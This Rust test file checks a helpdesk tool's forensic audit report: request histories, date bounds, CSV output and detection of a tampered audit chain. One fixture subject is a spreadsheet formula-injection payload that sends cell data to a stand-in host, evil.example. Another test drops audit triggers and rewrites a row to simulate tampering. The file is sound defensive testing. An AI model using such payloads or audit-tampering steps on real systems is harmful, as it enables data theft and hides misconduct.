//! The forensic report (issue 16) through the real binary: every request of a mailbox (or about
//! an account) in a period, with who asked and how, the evidence, what changed and what was
//! replied (never a reply's body), stamped with the audit chain's verification — as text, JSON
//! and CSV (every cell defused); the stamp says so when the trail was tampered with.

use crate::support::Instance;
use postroom::store::Store;
use serde_json::Value;

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

fn message(i: &Instance, name: &str, subject: &str, body: &str) -> std::path::PathBuf {
    let raw = format!(
        "Authentication-Results: mail.nhs.example; dkim=pass header.d=nhs.example header.s=s1; dmarc=pass header.from=nhs.example\r\n\
         From: Rosehill Care <rosehill.care@nhs.example>\r\n\
         To: Helpdesk <helpdesk@nhs.example>\r\n\
         Subject: {subject}\r\n\
         Date: Mon, 03 Mar 2025 09:07:00 +0000\r\n\
         Message-ID: <{name}.report-test@nhs.example>\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n{}",
        body.replace('\n', "\r\n")
    );
    let path = i.dir.path().join(format!("{name}.eml"));
    std::fs::write(&path, raw).unwrap();
    path
}

fn report(i: &Instance, args: &[&str]) -> std::process::Output {
    let mut all = vec!["audit", "report"];
    all.extend_from_slice(args);
    i.cmd().args(&all).output().unwrap()
}

fn stdout(out: &std::process::Output) -> String {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A reset (applied, answered with a temporary password), a formula in a subject (held),
/// and Oakview's removal (another mailbox).
fn instance() -> Instance {
    let i = Instance::with_directory("");
    i.process_fixture("password_reset_fields.eml");
    let formula = message(
        &i,
        "formula",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "Could someone have a look at our mailbox settings?\n\nRequested by: jane.doe@nhs.example\n",
    );
    i.process(&[&formula], false);
    i.process_fixture("leaves_one_member.eml");
    i
}

#[test]
fn a_mailbox_report_tells_each_requests_story_stamped_with_the_chain() {
    let i = instance();
    let json: Value = serde_json::from_str(
        stdout(&report(
            &i,
            &["--mailbox", "rosehill.care@nhs.example", "--format", "json"],
        ))
        .trim(),
    )
    .unwrap();
    assert_eq!(json["scope"], "mailbox");
    assert_eq!(json["chain"]["intact"], true, "{json:#}");
    assert!(
        json["chain"]["verdict"]
            .as_str()
            .unwrap()
            .contains("intact")
    );
    let requests = json["requests"].as_array().unwrap();
    assert_eq!(
        requests.len(),
        2,
        "Oakview's request is not Rosehill's: {json:#}"
    );
    let reset = requests
        .iter()
        .find(|r| r["outcome"] == "applied")
        .unwrap_or_else(|| panic!("{json:#}"));
    assert_eq!(reset["kind"], "password_reset");
    assert_eq!(reset["target"], "tom.smith@nhs.example");
    assert_eq!(reset["requester"], "jane.doe@nhs.example");
    assert!(reset["requester_how"].is_string(), "{reset:#}");
    assert!(
        reset["evidence"].as_str().unwrap().contains("dkim=pass"),
        "{reset:#}"
    );
    assert!(
        reset["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["action"] == "password.reset" && c["subject"] == "tom.smith@nhs.example"),
        "{reset:#}"
    );
    let replies = reset["replies"].as_array().unwrap();
    assert_eq!(replies.len(), 1, "{reset:#}");
    assert_eq!(replies[0]["to"], "rosehill.care@nhs.example");
    assert!(replies[0].get("body").is_none(), "never a reply's body");
    let held = requests
        .iter()
        .find(|r| r["outcome"] == "needs_review")
        .unwrap_or_else(|| panic!("{json:#}"));
    assert!(held["changes"].as_array().unwrap().is_empty());

    let text = stdout(&report(&i, &["--mailbox", "rosehill.care@nhs.example"]));
    assert!(
        text.contains("Forensic report: mailbox rosehill.care@nhs.example"),
        "{text}"
    );
    assert!(text.contains("Audit trail: audit chain intact"), "{text}");
    assert!(
        text.contains("changed: ") && text.contains("password.reset tom.smith@nhs.example"),
        "{text}"
    );
    assert!(
        !text.to_lowercase().contains("temporary password:"),
        "{text}"
    );

    // CSV: a header, one row per request, every cell defused, every row stamped.
    let csv = stdout(&report(
        &i,
        &["--mailbox", "rosehill.care@nhs.example", "--format", "csv"],
    ));
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header, postroom::audit::report::CSV_HEADER);
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let subject_at = header.iter().position(|h| h == "subject").unwrap();
    let intact_at = header.iter().position(|h| h == "chain_intact").unwrap();
    assert!(
        rows.iter()
            .any(|row| row[subject_at].starts_with("'=HYPERLINK")),
        "the formula subject is defused: {csv}"
    );
    for row in &rows {
        assert!(
            !row.iter().any(|c| c.starts_with(['=', '+', '-', '@'])),
            "{row:?}"
        );
        assert_eq!(&row[intact_at], "true");
    }
}

#[test]
fn an_account_report_and_the_periods_bounds() {
    let i = instance();
    let json: Value = serde_json::from_str(
        stdout(&report(
            &i,
            &["--account", "tom.smith@nhs.example", "--format", "json"],
        ))
        .trim(),
    )
    .unwrap();
    assert_eq!(json["scope"], "account");
    assert_eq!(json["requests"].as_array().unwrap().len(), 1, "{json:#}");
    // A period before anything happened is empty.
    let json: Value = serde_json::from_str(
        stdout(&report(
            &i,
            &[
                "--mailbox",
                "rosehill.care@nhs.example",
                "--from",
                "2020-01-01",
                "--to",
                "2020-02-01",
                "--format",
                "json",
            ],
        ))
        .trim(),
    )
    .unwrap();
    assert!(json["requests"].as_array().unwrap().is_empty(), "{json:#}");
    // Bad input names the problem.
    for (args, wanted) in [
        (
            vec!["--mailbox", "nobody@nhs.example"],
            "not a registered shared mailbox",
        ),
        (
            vec![
                "--mailbox",
                "rosehill.care@nhs.example",
                "--from",
                "yesterday-ish",
            ],
            "--from",
        ),
        (
            vec![
                "--mailbox",
                "rosehill.care@nhs.example",
                "--from",
                "2026-03-02",
                "--to",
                "2026-03-01",
            ],
            "--to must be after --from",
        ),
    ] {
        let out = report(&i, &args);
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(wanted), "{args:?}: {err}");
    }
}

#[test]
fn the_stamp_says_when_the_trail_was_tampered_with() {
    let i = instance();
    runtime().block_on(async {
        let store = Store::open(&i.database()).await.unwrap();
        let drops: &[&str] = if i.database().url.starts_with("sqlite") {
            &["DROP TRIGGER audit_events_no_update"]
        } else {
            &["DROP TRIGGER audit_events_no_change ON audit_events"]
        };
        for s in drops
            .iter()
            .chain(&["UPDATE audit_events SET subject = 'someone.else@nhs.example' WHERE seq = 2"])
        {
            sqlx::query(sqlx::AssertSqlSafe(s.to_string()))
                .execute(store.pool())
                .await
                .unwrap();
        }
        store.close().await;
    });
    let json: Value = serde_json::from_str(
        stdout(&report(
            &i,
            &["--mailbox", "rosehill.care@nhs.example", "--format", "json"],
        ))
        .trim(),
    )
    .unwrap();
    assert_eq!(json["chain"]["intact"], false, "{json:#}");
    assert!(
        json["chain"]["verdict"]
            .as_str()
            .unwrap()
            .contains("BROKEN"),
        "{json:#}"
    );
    let csv = stdout(&report(
        &i,
        &["--mailbox", "rosehill.care@nhs.example", "--format", "csv"],
    ));
    assert!(
        csv.contains(",false,"),
        "every row says the trail is broken: {csv}"
    );
}
